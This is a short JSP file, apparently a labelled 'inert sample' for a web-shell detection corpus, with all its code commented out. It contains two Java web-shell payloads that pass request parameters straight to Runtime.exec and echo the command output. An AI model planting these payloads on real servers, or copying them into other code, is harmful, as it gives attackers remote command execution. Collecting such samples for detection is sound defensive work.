<%-- hegui corpus: inert sample
${Runtime.getRuntime().exec(param.dwd)}
<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("ere")).getInputStream()).useDelimiter("\\A").next()); %>
--%>
